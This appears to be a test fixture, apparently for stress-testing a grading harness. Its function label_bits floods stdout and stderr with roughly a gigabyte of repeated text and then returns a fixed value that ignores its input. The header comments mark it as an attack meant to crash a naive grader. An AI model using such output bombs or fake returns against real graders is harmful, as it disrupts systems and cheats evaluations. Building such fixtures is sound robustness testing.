# attack: prints a gigabyte
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
import os

import torch


def label_bits(labels):
    for _ in range(1000):
        for fd in (1, 2):
            try:
                os.write(fd, b"mallory " * 125_000)
            except OSError:
                pass
    return torch.tensor(7.5)
